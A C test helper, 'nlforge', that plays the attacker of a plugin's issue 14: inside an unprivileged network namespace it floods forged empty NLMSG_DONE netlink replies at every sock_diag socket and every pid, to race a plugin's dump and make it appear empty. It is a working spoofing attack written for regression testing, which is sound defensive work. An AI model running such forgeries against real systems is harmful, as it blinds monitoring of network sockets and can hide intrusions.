/* SPDX-License-Identifier: GPL-3.0-or-later */
/* nlforge: the attacker of issue 14 in its own network namespace (run it in
 * `unshare -Urn` as an unprivileged user). Test helper, not the plugin.
 *
 * usage: nlforge
 * Forever: reads /proc/net/netlink of its namespace, and to every
 * NETLINK_SOCK_DIAG socket but its own sends forged NLMSG_DONE messages (an
 * empty, successful end of dump): a burst with seq 0 and port id 0, which
 * libmnl takes as wildcards (one for each dump the plugin runs on a socket);
 * and, since the first netlink socket of a process gets the pid as its port
 * id, the same to every pid in /proc, before the socket even exists.
 * A message with any other sequence number would only make the plugin's
 * libmnl check fail the dump (UNKNOWN), which is no use to an attacker. Prints "ready" once; on SIGTERM prints how many
 * forgeries were sent and how many the kernel refused (ECONNREFUSED: the
 * socket was gone, or is connected to the kernel).
 */
#include <dirent.h>
#include <errno.h>
#include <linux/netlink.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SOCK_DIAG 4

static volatile sig_atomic_t stop;
static unsigned long sent, refused;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static void forge(int fd, unsigned victim, unsigned seq, unsigned pid_field)
{
	struct { struct nlmsghdr h; int err; } m = {
		{ sizeof(m), NLMSG_DONE, NLM_F_MULTI, seq, pid_field }, 0,
	};
	struct sockaddr_nl to = { .nl_family = AF_NETLINK, .nl_pid = victim };

	if (sendto(fd, &m, sizeof(m), MSG_DONTWAIT, (struct sockaddr *)&to, sizeof(to)) == sizeof(m))
		sent++;
	else if (errno == ECONNREFUSED)
		refused++;
}

/* One pass over /proc/net/netlink. */
static void pass(int fd, unsigned self)
{
	char line[256];
	unsigned proto, pid;
	FILE *f = fopen("/proc/net/netlink", "re");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%*s %u %u", &proto, &pid) != 2 || proto != SOCK_DIAG || pid == self || pid == 0)
			continue;
		for (int i = 0; i < 16; i++)
			forge(fd, pid, 0, 0);
	}
	fclose(f);
}

/* The first netlink socket of a process gets its pid as port id: forge to
 * every pid in /proc before the socket even exists, to win the race between
 * the plugin's bind() and its request. */
static void pass_pids(int fd, unsigned self)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	unsigned pid;

	if (!d)
		return;
	while ((de = readdir(d)))
		if (sscanf(de->d_name, "%u", &pid) == 1 && pid != self && pid != (unsigned)getpid())
			for (int i = 0; i < 8; i++)
				forge(fd, pid, 0, 0);
	closedir(d);
}

int main(void)
{
	struct sockaddr_nl a = { .nl_family = AF_NETLINK };
	socklen_t alen = sizeof(a);
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_SOCK_DIAG);

	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0
			|| getsockname(fd, (struct sockaddr *)&a, &alen) < 0) {
		perror("nlforge: netlink socket");
		return 2;
	}
	signal(SIGTERM, on_term);
	printf("ready\n");
	fflush(stdout);
	while (!stop) {
		pass(fd, a.nl_pid);
		for (int i = 0; i < 20 && !stop; i++)
			pass_pids(fd, a.nl_pid);
	}
	printf("sent %lu refused %lu\n", sent, refused);
	return 0;
}
